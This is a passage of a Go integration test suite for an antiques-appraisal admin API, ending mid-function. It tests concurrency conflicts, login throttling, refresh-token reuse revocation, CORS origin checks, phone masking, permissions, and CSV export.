package app_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jianbao/admin/shared/appraisal"
)

// newOrder makes a customer, an item and an order as the operator, and returns the order's id.
func newOrder(t *testing.T, h *harness, op string) string {
	t.Helper()
	c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "客户"}), 201)
	it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "2", "title": "和田玉籽料"}), 201)
	o := must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": it["id"], "product_id": "2"}), 201)
	return o["id"].(string)
}

// TestConcurrentTransitions has several clients send the same transition with the same version at
// once: exactly one wins, the rest get 409 with the current state, and the timeline holds exactly
// the winner's event.
func TestConcurrentTransitions(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "racer", appraisal.RoleOperator)
		for round := 0; round < 5; round++ {
			id := newOrder(t, h, op)
			const clients = 8
			statuses := make([]int, clients)
			bodies := make([]string, clients)
			var wg sync.WaitGroup
			start := make(chan struct{})
			for i := range clients {
				wg.Add(1)
				go func() {
					defer wg.Done()
					<-start
					r := h.as(t, op, "POST", "/api/v1/orders/"+id+"/triage", map[string]any{"version": 1, "note": fmt.Sprint("client ", i)})
					statuses[i], bodies[i] = r.status, string(r.body)
				}()
			}
			close(start)
			wg.Wait()
			wins := 0
			for i, s := range statuses {
				switch s {
				case http.StatusOK:
					wins++
				case http.StatusConflict:
					if !strings.Contains(bodies[i], `"current_version":2`) || !strings.Contains(bodies[i], `"current_status":"TRIAGE"`) {
						t.Errorf("a loser's 409 must carry the current state: %s", bodies[i])
					}
				default:
					t.Errorf("unexpected %d: %s", s, bodies[i])
				}
			}
			if wins != 1 {
				t.Fatalf("round %d: %d winners, want exactly 1: %v", round, wins, statuses)
			}
			det := must(t, h.as(t, op, "GET", "/api/v1/orders/"+id, nil), 200)
			events := det["events"].([]any)
			if len(events) != 2 || det["version"].(float64) != 2 {
				t.Fatalf("round %d: %d events at version %v, want 2 at 2", round, len(events), det["version"])
			}
		}
	})
}

func TestLoginThrottleOverHTTP(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		h.user(t, "tess", appraisal.RoleViewer)
		// The harness allows five failures a minute per account.
		for i := 0; i < 5; i++ {
			r := h.do(t, "POST", "/api/v1/auth/login", `{"username":"tess","password":"wrong-password"}`)
			if r.status != 401 {
				t.Fatalf("attempt %d: %d %s", i+1, r.status, r.body)
			}
		}
		r := h.do(t, "POST", "/api/v1/auth/login", `{"username":"tess","password":"password-tess"}`)
		if r.status != 429 || r.json(t)["code"] != "auth.too_many_attempts" {
			t.Fatalf("after five failures: %d %s", r.status, r.body)
		}
		s, err := strconv.Atoi(r.header.Get("Retry-After"))
		if err != nil || s < 1 || s > 60 {
			t.Fatalf("Retry-After = %q", r.header.Get("Retry-After"))
		}
		// The wait is in the body too, for a page that cannot read the header across origins.
		if d, _ := r.json(t)["details"].(map[string]any); d == nil || d["retry_after_seconds"] != float64(s) {
			t.Fatalf("details = %v, want retry_after_seconds %d", r.json(t)["details"], s)
		}
	})
}

// TestRefreshReuseOverHTTP: two tabs of one browser refreshing with the same token (the grace
// window answers the second with the same successor, since both carry the device cookie the login
// set); a replay once the successor is in use revokes the whole family; and a thief holding a
// copy of the refresh token but not the browser's cookie never rides along — whether the thief
// presents it after its owner or before, the second presentation ends the session for both.
func TestRefreshReuseOverHTTP(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		h.user(t, "ruth", appraisal.RoleViewer)
		login := func() (refresh, cookie string) {
			r := h.do(t, "POST", "/api/v1/auth/login", `{"username":"ruth","password":"password-ruth"}`)
			c := r.header.Get("Set-Cookie")
			for _, attr := range []string{"__Host-jb_device=", "HttpOnly", "Secure", "SameSite=Strict", "Path=/"} {
				if !strings.Contains(c, attr) {
					t.Fatalf("the login's device cookie %q lacks %s", c, attr)
				}
			}
			return must(t, r, 200)["refresh_token"].(string), strings.SplitN(c, ";", 2)[0]
		}
		refresh := func(tok, cookie string) *response {
			headers := []string{}
			if cookie != "" {
				headers = append(headers, "Cookie", cookie)
			}
			return h.do(t, "POST", "/api/v1/auth/refresh", `{"refresh_token":"`+tok+`"}`, headers...)
		}
		reused := func(r *response) bool { return r.status == 401 && r.json(t)["code"] == "auth.refresh_reused" }

		first, device := login()
		tab1 := must(t, refresh(first, device), 200)
		tab2 := must(t, refresh(first, device), 200)
		if tab1["refresh_token"] != tab2["refresh_token"] {
			t.Fatalf("two tabs got different successors")
		}
		for _, tab := range []map[string]any{tab1, tab2} {
			must(t, h.as(t, tab["access_token"].(string), "GET", "/api/v1/auth/me", nil), 200)
		}
		newer := must(t, refresh(tab1["refresh_token"].(string), device), 200)
		if r := refresh(first, device); !reused(r) {
			t.Fatalf("reuse: %d %s", r.status, r.body)
		}
		if r := h.as(t, newer["access_token"].(string), "GET", "/api/v1/auth/me", nil); r.status != 401 {
			t.Fatalf("the family's access token must die with it: %d", r.status)
		}
		if r := refresh(newer["refresh_token"].(string), device); r.status != 401 {
			t.Fatalf("the family's newest refresh token must die with it: %d", r.status)
		}

		// The thief replays a copy right after its owner used it: no grace without the cookie.
		stolen, device := login()
		owner := must(t, refresh(stolen, device), 200)
		if r := refresh(stolen, ""); !reused(r) {
			t.Fatalf("a thief's replay within the grace window: %d %s", r.status, r.body)
		}
		if r := refresh(owner["refresh_token"].(string), device); r.status != 401 {
			t.Fatalf("the owner's session must end with the replay: %d", r.status)
		}
		// Nor with another browser's cookie.
		stolen, device = login()
		_, elsewhere := login()
		must(t, refresh(stolen, device), 200)
		if r := refresh(stolen, elsewhere); !reused(r) {
			t.Fatalf("a replay with another session's cookie: %d %s", r.status, r.body)
		}
		// The thief goes first: the owner's tab, arriving within the window with the cookie, is not
		// handed the thief's successor; the session ends.
		stolen, device = login()
		thief := must(t, refresh(stolen, ""), 200)
		if r := refresh(stolen, device); !reused(r) {
			t.Fatalf("the owner after the thief: %d %s", r.status, r.body)
		}
		if r := refresh(thief["refresh_token"].(string), ""); r.status != 401 {
			t.Fatalf("the thief's successor must die with the session: %d", r.status)
		}
	})
}

// TestPhoneMasking shows the phone in full only to roles holding customers.phone.view.
func TestPhoneMasking(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "opal", appraisal.RoleOperator)
		_, viewer := h.user(t, "vera", appraisal.RoleViewer)
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "张女士", "phone": "+86 139 0000 1111"}), 201)
		id := c["id"].(string)
		if c["phone"] != "+8613900001111" {
			t.Fatalf("operator: %v", c["phone"])
		}
		v := must(t, h.as(t, viewer, "GET", "/api/v1/customers/"+id, nil), 200)
		if v["phone"] != "139****1111" || strings.Contains(fmt.Sprint(v), "13900001111") {
			t.Fatalf("viewer sees %v", v["phone"])
		}
		// However the number is typed, it is one number: the search finds it, and a second
		// customer with it is flagged as a likely duplicate.
		for _, q := range []string{"%2B86-139-0000-1111", "13900001111", "0086%20139%200000%201111"} {
			found := must(t, h.as(t, op, "GET", "/api/v1/customers?phone="+q, nil), 200)
			if found["total"].(float64) != 1 {
				t.Fatalf("search by phone %s: %v", q, found)
			}
		}
		dup := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "张女士（重复）", "phone": "139 0000 1111"}), 201)
		same, _ := dup["same_phone"].([]any)
		if len(same) != 1 || same[0].(map[string]any)["id"] != id {
			t.Fatalf("a second customer with the number: same_phone = %v", dup["same_phone"])
		}
		if plain := must(t, h.as(t, op, "GET", "/api/v1/customers/"+id, nil), 200); plain["same_phone"] != nil {
			t.Fatalf("same_phone on a plain read: %v", plain["same_phone"])
		}
	})
}

// TestDashboardFreshAfterWrites reads the (cached) dashboard, writes, and reads again.
func TestDashboardFreshAfterWrites(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "dora", appraisal.RoleOperator)
		before := must(t, h.as(t, op, "GET", "/api/v1/dashboard", nil), 200)
		if n := before["orders_by_status"].(map[string]any)["SUBMITTED"]; n != float64(0) {
			t.Fatalf("SUBMITTED = %v", n)
		}
		id := newOrder(t, h, op)
		after := must(t, h.as(t, op, "GET", "/api/v1/dashboard", nil), 200)
		if n := after["orders_by_status"].(map[string]any)["SUBMITTED"]; n != float64(1) {
			t.Fatalf("after a create SUBMITTED = %v", n)
		}
		must(t, h.as(t, op, "POST", "/api/v1/orders/"+id+"/cancel", map[string]any{"version": 1}), 200)
		again := must(t, h.as(t, op, "GET", "/api/v1/dashboard", nil), 200)
		st := again["orders_by_status"].(map[string]any)
		if st["SUBMITTED"] != float64(0) || st["CANCELLED"] != float64(1) {
			t.Fatalf("after a cancel: %v", st)
		}
		days := again["daily"].([]any)
		if len(days) != 30 || days[29].(map[string]any)["intake"] != float64(1) {
			t.Fatalf("daily: %v", days[len(days)-1])
		}

		// A range of the staff's choosing: today alone, or a week ending yesterday.
		today := time.Now().In(appraisal.Shanghai).Format("2006-01-02")
		yesterday := time.Now().In(appraisal.Shanghai).AddDate(0, 0, -1).Format("2006-01-02")
		one := must(t, h.as(t, op, "GET", "/api/v1/dashboard?from="+today+"&to="+today, nil), 200)
		if d := one["daily"].([]any); len(d) != 1 || d[0].(map[string]any)["intake"] != float64(1) || one["from"] != today || one["to"] != today {
			t.Fatalf("today alone: %v", one)
		}
		week := must(t, h.as(t, op, "GET", "/api/v1/dashboard?to="+yesterday, nil), 200)
		if d := week["daily"].([]any); len(d) != 30 || d[29].(map[string]any)["intake"] != float64(0) {
			t.Fatalf("30 days to yesterday: %v", week["daily"])
		}
		if r := h.as(t, op, "GET", "/api/v1/dashboard?from=2026-01-01&to=2026-12-31", nil); r.status != 422 {
			t.Fatalf("a year: %d", r.status)
		}
		if r := h.as(t, op, "GET", "/api/v1/dashboard?from="+today+"&to="+yesterday, nil); r.status != 422 {
			t.Fatalf("an empty range: %d", r.status)
		}
	})
}

// TestChangeWithoutBody: a state change may carry its version in If-Match and send no body at
// all; with neither, the answer says what is missing.
func TestChangeWithoutBody(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "nobody-operator", appraisal.RoleOperator)
		id := newOrder(t, h, op)
		r := h.do(t, "POST", "/api/v1/orders/"+id+"/triage", "", "Authorization", "Bearer "+op, "If-Match", `"1"`)
		if r.status != http.StatusOK || r.json(t)["status"] != "TRIAGE" {
			t.Fatalf("triage with If-Match and no body: %d %s", r.status, r.body)
		}
		r = h.do(t, "POST", "/api/v1/orders/"+id+"/accept", "", "Authorization", "Bearer "+op)
		if r.status != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), `"field":"version"`) {
			t.Fatalf("no version anywhere: %d %s", r.status, r.body)
		}
		r = h.do(t, "POST", "/api/v1/customers/1/block", "", "Authorization", "Bearer "+op, "If-Match", `W/"1"`)
		if r.status == http.StatusBadRequest {
			t.Fatalf("block with If-Match and no body: %d %s", r.status, r.body)
		}
	})
}

// TestContractFixes: the audit row of an assignment says who was assigned before and after; only
// an expert account can become an expert; a parent category's filter finds its subcategories'
// orders.
func TestContractFixes(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		_, op := h.user(t, "fix-operator", appraisal.RoleOperator)
		viewer, _ := h.user(t, "fix-viewer", appraisal.RoleViewer)
		r := h.as(t, admin, "POST", "/api/v1/experts", map[string]any{"user_id": fmt.Sprint(viewer), "name": "v", "specialties": []map[string]any{{"category_id": "2"}}})
		if r.status != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "not_expert_role") {
			t.Errorf("a viewer made an expert: %d %s", r.status, r.body)
		}
		e := newExpert(t, h, admin, "fix-expert")
		objs, _ := assigned(t, h, op, e)
		logs := must(t, h.as(t, admin, "GET", "/api/v1/audit-logs?target_type=order&target_id="+objs["order"]+"&page_size=50", nil), 200)
		found := false
		for _, row := range logs["items"].([]any) {
			a := row.(map[string]any)
			if a["action"] != "orders.assign" {
				continue
			}
			found = true
			before, after := a["before"].(map[string]any), a["after"].(map[string]any)
			if before["assignee_expert_id"] != float64(0) || before["status"] != "QUEUED" || fmt.Sprint(after["assignee_expert_id"]) != e {
				t.Errorf("assignment audit: before %v after %v", before, after)
			}
		}
		if !found {
			t.Error("no audit row for the assignment")
		}
		// Category 2 is 玉器; 10 is its child 和田玉.
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "客户"}), 201)
		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "10", "title": "和田玉籽料"}), 201)
		child := must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": it["id"], "product_id": "2"}), 201)
		l := must(t, h.as(t, op, "GET", "/api/v1/orders?category_id=2&page_size=100", nil), 200)
		ids := ""
		for _, o := range l["items"].([]any) {
			ids += o.(map[string]any)["id"].(string) + ","
		}
		if !strings.Contains(ids, child["id"].(string)+",") || !strings.Contains(ids, objs["order"]+",") {
			t.Errorf("玉器 does not find the 和田玉 order %s (and the 玉器 one %s): %s", child["id"], objs["order"], ids)
		}
	})
}

// TestUnknownQueryParameter: a parameter the route does not define is a 400 naming it, not a
// filter silently ignored.
func TestUnknownQueryParameter(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "query-operator", appraisal.RoleOperator)
		r := h.as(t, op, "GET", "/api/v1/orders?owner_id=1&status=TRIAGE", nil)
		if r.status != http.StatusBadRequest || !strings.Contains(string(r.body), `"field":"query.owner_id"`) || strings.Contains(string(r.body), "query.status") {
			t.Errorf("unknown parameter: %d %s", r.status, r.body)
		}
		must(t, h.as(t, op, "GET", "/api/v1/orders?status=TRIAGE&page_size=5", nil), 200)
		if r := h.do(t, "GET", "/api/v1/orders?owner_id=1", ""); r.status != http.StatusUnauthorized {
			t.Errorf("anonymous: %d, want 401 before any parameter check", r.status)
		}
	})
}

// TestItemMergePatch: PATCH changes only what is sent; an attribute set to null goes.
func TestItemMergePatch(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "patch-operator", appraisal.RoleOperator)
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "客户"}), 201)
		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "8", "title": "青花盘",
			"description": "底有款", "attributes": map[string]string{"口径": "20cm", "款识": "大清乾隆年制"}}), 201)
		path := "/api/v1/items/" + it["id"].(string)
		got := must(t, h.as(t, op, "PATCH", path, map[string]any{"version": 1, "title": "青花缠枝莲纹盘", "attributes": map[string]any{"口径": nil, "高": "4cm"}}), 200)
		attrs := got["attributes"].(map[string]any)
		if got["title"] != "青花缠枝莲纹盘" || got["description"] != "底有款" || got["category_id"] != "8" ||
			attrs["款识"] != "大清乾隆年制" || attrs["高"] != "4cm" || attrs["口径"] != nil || got["version"] != float64(2) {
			t.Errorf("after a partial patch: %v", got)
		}
		if r := h.as(t, op, "PATCH", path, map[string]any{"version": 2, "category_id": "999"}); r.status != http.StatusUnprocessableEntity {
			t.Errorf("unknown category: %d %s", r.status, r.body)
		}
	})
}

// TestCORS: the console's origin may call the API from a browser (preflight and response
// headers), with credentials (the device cookie), any other origin may not, and nothing allows a
// wildcard.
func TestCORS(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		pre := func(origin string) *response {
			return h.do(t, "OPTIONS", "/api/v1/orders/1/triage", "", "Origin", origin,
				"Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization, content-type, if-match")
		}
		r := pre("http://localhost:5173")
		if r.status != http.StatusNoContent || r.header.Get("Access-Control-Allow-Origin") != "http://localhost:5173" ||
			!strings.Contains(r.header.Get("Access-Control-Allow-Headers"), "If-Match") || !strings.Contains(r.header.Get("Access-Control-Allow-Methods"), "PATCH") {
			t.Errorf("preflight from the console: %d %v", r.status, r.header)
		}
		if r := pre("https://evil.example"); r.status != http.StatusForbidden || r.header.Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("preflight from another origin: %d %v", r.status, r.header)
		}
		get := h.do(t, "GET", "/healthz", "", "Origin", "https://admin.jianbao.example")
		if get.header.Get("Access-Control-Allow-Origin") != "https://admin.jianbao.example" || !strings.Contains(get.header.Get("Vary"), "Origin") ||
			!strings.Contains(get.header.Get("Access-Control-Expose-Headers"), "ETag") || get.header.Get("Access-Control-Allow-Credentials") != "true" {
			t.Errorf("response to the console: %v", get.header)
		}
		if other := h.do(t, "GET", "/healthz", "", "Origin", "https://evil.example"); other.header.Get("Access-Control-Allow-Origin") != "" ||
			other.header.Get("Access-Control-Allow-Credentials") != "" {
			t.Errorf("response to another origin: %v", other.header)
		}
	})
}

// TestReissueAfterRevoke: revoking the issued certificate takes the order back to COMPLETED (an
// event of its own), from where a new certificate can be issued; the revoked one stays on record.
func TestReissueAfterRevoke(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		_, op := h.user(t, "reissue-operator", appraisal.RoleOperator)
		e := newExpert(t, h, admin, "reissue-expert")
		objs, v := assigned(t, h, op, e)
		first := issue(t, h, op, h.login(t, "reissue-expert", "password-reissue-expert"), objs["order"], v)
		must(t, h.as(t, admin, "POST", "/api/v1/certificates/"+first+"/revoke", map[string]any{"reason": "证书编号印错", "public_reason": "ERRATA"}), 200)
		o := must(t, h.as(t, op, "GET", "/api/v1/orders/"+objs["order"], nil), 200)
		if o["status"] != "COMPLETED" || !strings.Contains(fmt.Sprint(o["allowed_actions"]), "certificates.issue") {
			t.Fatalf("after the revocation: %v %v", o["status"], o["allowed_actions"])
		}
		again := must(t, h.as(t, op, "POST", "/api/v1/orders/"+objs["order"]+"/certificate", map[string]any{"version": o["version"]}), 201)
		second := again["certificate"].(map[string]any)
		if second["id"] == first || second["status"] != "ISSUED" || again["order"].(map[string]any)["status"] != "CERT_ISSUED" {
			t.Fatalf("reissue: %v", again)
		}
		certs := must(t, h.as(t, op, "GET", "/api/v1/orders/"+objs["order"], nil), 200)["certificates"].([]any)
		if len(certs) != 2 || certs[0].(map[string]any)["status"] != "REVOKED" {
			t.Errorf("certificates after the reissue: %v", certs)
		}
	})
}

// TestTimelineNamesActors: the timeline names who did each step, so an operator, who may not read
// accounts, needs no second lookup; a renamed account shows its new name at once, through the read
// cache too.
func TestTimelineNamesActors(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		opID, op := h.user(t, "olga", appraisal.RoleOperator)
		_, admin := h.user(t, "adam", appraisal.RoleAdmin)
		id := newOrder(t, h, op)
		must(t, h.as(t, op, "POST", "/api/v1/orders/"+id+"/triage", map[string]any{"version": 1}), 200)
		names := func() []any {
			det := must(t, h.as(t, op, "GET", "/api/v1/orders/"+id, nil), 200)
			var out []any
			for _, e := range det["events"].([]any) {
				out = append(out, e.(map[string]any)["actor_name"])
			}
			return out
		}
		if got := names(); len(got) != 2 || got[0] != "olga" || got[1] != "olga" {
			t.Fatalf("actor names %v, want the username while there is no display name", got)
		}
		must(t, h.as(t, admin, "PATCH", "/api/v1/admin/users/"+strconv.FormatInt(opID, 10), map[string]any{"display_name": "王奥尔加"}), 200)
		if got := names(); got[0] != "王奥尔加" || got[1] != "王奥尔加" {
			t.Fatalf("after the rename: %v", got)
		}
	})
}

// TestAllowedActionsAreTheCallers: allowed_actions lists exactly the operations this caller may
// call now — by the flow, the role, the assignment, whose opinion it is and the verdict — and every
// operation offered is then called and answers success.
func TestAllowedActionsAreTheCallers(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		_, op := h.user(t, "aa-operator", appraisal.RoleOperator)
		_, rev := h.user(t, "aa-reviewer", appraisal.RoleReviewer)
		_, viewer := h.user(t, "aa-viewer", appraisal.RoleViewer)
		e := newExpert(t, h, admin, "aa-expert")
		ex := h.login(t, "aa-expert", "password-aa-expert")
		objs, _ := assigned(t, h, op, e)
		path := "/api/v1/orders/" + objs["order"]
		offered := func(tok string) []string {
			var out []string
			for _, a := range must(t, h.as(t, tok, "GET", path, nil), 200)["allowed_actions"].([]any) {
				out = append(out, a.(string))
			}
			return out
		}
		version := func() int { return int(must(t, h.as(t, op, "GET", path, nil), 200)["version"].(float64)) }
		for _, step := range []struct {
			status string
			want   map[string][]string // by caller
			tok    string              // who then calls
			call   string              // the operation called, which must be offered
			suffix string
			body   map[string]any
		}{
			{"ASSIGNED", map[string][]string{"operator": {"orders.assign"}, "expert": {"orders.start"}, "reviewer": nil, "viewer": nil},
				ex, "orders.start", "/start", nil},
			{"IN_APPRAISAL", map[string][]string{"operator": nil, "expert": {"orders.submit_opinion"}, "reviewer": nil, "viewer": nil},
				ex, "orders.submit_opinion", "/opinions", map[string]any{"verdict": "UNCERTAIN", "era": "清", "condition": "好",
					"value_min_fen": 0, "value_max_fen": 0, "public_comment": "无法确定"}},
			{"IN_REVIEW", map[string][]string{"operator": nil, "expert": nil, "reviewer": {"orders.review"}, "viewer": nil},
				rev, "orders.review", "/reviews", map[string]any{"decision": "AGREE"}},
			// An UNCERTAIN verdict is not certified: the operator is offered the dispute only.
			{"COMPLETED", map[string][]string{"operator": {"orders.dispute"}, "expert": nil, "reviewer": nil, "viewer": nil},
				op, "orders.dispute", "/dispute", map[string]any{"note": "客户不认可"}},
		} {
			callers := map[string]string{"operator": op, "expert": ex, "reviewer": rev, "viewer": viewer}
			if st := must(t, h.as(t, op, "GET", path, nil), 200)["status"]; st != step.status {
				t.Fatalf("status %v, want %s", st, step.status)
			}
			for who, tok := range callers {
				if got := offered(tok); fmt.Sprint(got) != fmt.Sprint(step.want[who]) {
					t.Errorf("%s: %s is offered %v, want %v", step.status, who, got, step.want[who])
				}
			}
			r := h.as(t, step.tok, "POST", path+step.suffix, withVersion(version(), step.body))
			if r.status != 200 && r.status != 201 {
				t.Fatalf("%s: calling the offered %s: %d %s", step.status, step.call, r.status, r.body)
			}
		}
	})
}

// TestOperationsOneSpelling: a role's grants are read and written as "operations", /auth/me names
// the caller's the same way, and the names are the operation ids allowed_actions uses.
func TestOperationsOneSpelling(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		_, viewer := h.user(t, "os-viewer", appraisal.RoleViewer)
		ops := func(m map[string]any) string { return fmt.Sprint(m["operations"]) }
		if me := must(t, h.as(t, viewer, "GET", "/api/v1/auth/me", nil), 200); !strings.Contains(ops(me), "orders.get") || strings.Contains(ops(me), "orders.assign") {
			t.Fatalf("a viewer's operations: %v", me)
		}
		roles := must(t, h.as(t, admin, "GET", "/api/v1/admin/roles", nil), 200)
		var viewerRole map[string]any
		for _, r := range roles["items"].([]any) {
			if r.(map[string]any)["id"].(float64) == float64(appraisal.RoleViewer) {
				viewerRole = r.(map[string]any)
			}
		}
		if viewerRole == nil || !strings.Contains(ops(viewerRole), "orders.get") {
			t.Fatalf("roles: %v", roles)
		}
		var granted []string
		for _, o := range viewerRole["operations"].([]any) {
			granted = append(granted, o.(string))
		}
		granted = append(granted, "orders.triage")
		put := must(t, h.as(t, admin, "PUT", fmt.Sprintf("/api/v1/admin/roles/%d/permissions", appraisal.RoleViewer), map[string]any{"operations": granted}), 200)
		if !strings.Contains(ops(put), "orders.triage") {
			t.Fatalf("written as operations, read back: %v", put)
		}
		if me := must(t, h.as(t, viewer, "GET", "/api/v1/auth/me", nil), 200); !strings.Contains(ops(me), "orders.triage") {
			t.Fatalf("the grant applies at once: %v", me)
		}
	})
}

// TestOrderExportAndItemFilter: the order list filters by item, and exports as CSV what it lists
// (UTF-8 with BOM, a header, one row per order), audited; experts may not export.
func TestOrderExportAndItemFilter(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "olive", appraisal.RoleOperator)
		_, viewer := h.user(t, "vince", appraisal.RoleViewer)
		eid, _ := h.user(t, "ethan", appraisal.RoleExpert)
		admin := h.login(t, "admin", adminPassword)
		must(t, h.as(t, admin, "POST", "/api/v1/experts", map[string]any{"user_id": fmt.Sprint(eid), "name": "伊森", "capacity": 5,
			"specialties": []map[string]any{{"category_id": "1"}}}), 201)
		expert := h.login(t, "ethan", "password-ethan")
		c := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "导出客户"}), 201)
		it := must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": c["id"], "category_id": "2", "title": "乾隆粉彩瓶"}), 201)
		for range 3 {
			must(t, h.as(t, op, "POST", "/api/v1/orders", map[string]any{"item_id": it["id"], "product_id": "2"}), 201)
		}
		newOrder(t, h, op) // another item's
		byItem := must(t, h.as(t, op, "GET", "/api/v1/orders?item_id="+it["id"].(string), nil), 200)
		if byItem["total"].(float64) != 3 {
			t.Fatalf("orders of the item: %v", byItem["total"])
		}
		r := h.as(t, viewer, "GET", "/api/v1/orders/export.csv?item_id="+it["id"].(string), nil)
		if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") || !strings.Contains(r.header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("export: %d %v", r.status, r.header)
		}
		if !bytes.HasPrefix(r.body, []byte("\xef\xbb\xbf订单号,状态,藏品")) {
			t.Fatalf("no BOM and header: %.80q", r.body)
		}
		lines := strings.Split(strings.TrimSpace(string(r.body)), "\n")
		if len(lines) != 4 || !strings.Contains(lines[1], "乾隆粉彩瓶") || !strings.Contains(lines[1], "已提交") {
			t.Fatalf("export lines: %q", lines)
		}
		if r := h.as(t, expert, "GET", "/api/v1/orders/export.csv", nil); r.status != 403 {
			t.Fatalf("an expert exports: %d", r.status)
		}
		if r := h.as(t, op, "GET", "/api/v1/orders/export.csv?status=NOPE", nil); r.status != 422 {
			t.Fatalf("a bad filter: %d %s", r.status, r.body)
		}
		audit := must(t, h.as(t, admin, "GET", "/api/v1/audit-logs?action=orders.export", nil), 200)
		if audit["total"].(float64) != 1 {
			t.Fatalf("export audit rows: %v", audit["total"])
		}
	})
}

// TestOwnProfile: anyone changes their own display name, and timelines show the new one.
func TestOwnProfile(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "opie", appraisal.RoleOperator)
		id := newOrder(t, h, op)
		must(t, h.as(t, op, "GET", "/api/v1/orders/"+id, nil), 200) // cached
		u := must(t, h.as(t, op, "PATCH", "/api/v1/auth/me", map[string]any{"display_name": "  欧佩  "}), 200)
		if u["display_name"] != "欧佩" {
			t.Fatalf("profile: %v", u)
		}
		if r := h.as(t, op, "PATCH", "/api/v1/auth/me", map[string]any{"display_name": "   "}); r.status != 422 {
			t.Fatalf("a blank name: %d", r.status)
		}
		o := must(t, h.as(t, op, "GET", "/api/v1/orders/"+id, nil), 200)
		if ev := o["events"].([]any)[0].(map[string]any); ev["actor_name"] != "欧佩" {
			t.Fatalf("the timeline names %v", ev["actor_name"])
		}
	})
}

// TestCategoryAdministration: rename, move (never under itself or its own descendants), disable
// (no new items in it; existing ones keep it) and enable again.
func TestCategoryAdministration(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		admin := h.login(t, "admin", adminPassword)
		_, op := h.user(t, "omar", appraisal.RoleOperator)
		cats := must(t, h.as(t, admin, "GET", "/api/v1/categories", nil), 200)["items"].([]any)
		var parent, child string
		for _, c := range cats {
			if p := c.(map[string]any)["parent_id"].(string); p != "" {
				parent, child = p, c.(map[string]any)["id"].(string)
				break
			}
		}
		if child == "" {
			t.Fatal("the seed has no subcategory")
		}
		if r := h.as(t, admin, "PATCH", "/api/v1/categories/"+parent, map[string]any{"parent_id": child}); r.status != 422 || !strings.Contains(string(r.body), "cycle") {
			t.Fatalf("a parent moved under its child: %d %s", r.status, r.body)
		}
		c := must(t, h.as(t, admin, "PATCH", "/api/v1/categories/"+child, map[string]any{"name": "青花瓷（明清）", "disabled": true}), 200)
		if c["name"] != "青花瓷（明清）" || c["disabled"] != true || c["parent_id"] != parent {
			t.Fatalf("after the change: %v", c)
		}
		cust := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "类目客户"}), 201)
		if r := h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": cust["id"], "category_id": child, "title": "碗"}); r.status != 422 || !strings.Contains(string(r.body), "disabled") {
			t.Fatalf("an item in a disabled category: %d %s", r.status, r.body)
		}
		must(t, h.as(t, admin, "PATCH", "/api/v1/categories/"+child, map[string]any{"disabled": false, "parent_id": ""}), 200)
		must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": cust["id"], "category_id": child, "title": "碗"}), 201)
		if r := h.as(t, op, "PATCH", "/api/v1/categories/"+child, map[string]any{"name": "x"}); r.status != 403 {
			t.Fatalf("an operator changes categories: %d", r.status)
		}
	})
}

// TestRemoveAndMerge: duplicates are merged (items, orders and photos move to the one kept) and
// removed; what still has items or orders cannot simply be removed.
func TestRemoveAndMerge(t *testing.T) {
	forEachBackend(t, func(t *testing.T, h *harness) {
		_, op := h.user(t, "odin", appraisal.RoleOperator)
		_, viewer := h.user(t, "vala", appraisal.RoleViewer)
		a := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "王先生"}), 201)
		b := must(t, h.as(t, op, "POST", "/api/v1/customers", map[string]any{"name": "王先生（重复）"}), 201)
		item := func(cust map[string]any, title string) map[string]any {
			return must(t, h.as(t, op, "POST", "/api/v1/items", map[string]any{"customer_id": cust["id"], "category_id": "2", "title": title}), 201)
		}
		i1, i2 := item(a, "玉镯"), item(b, "玉佩")
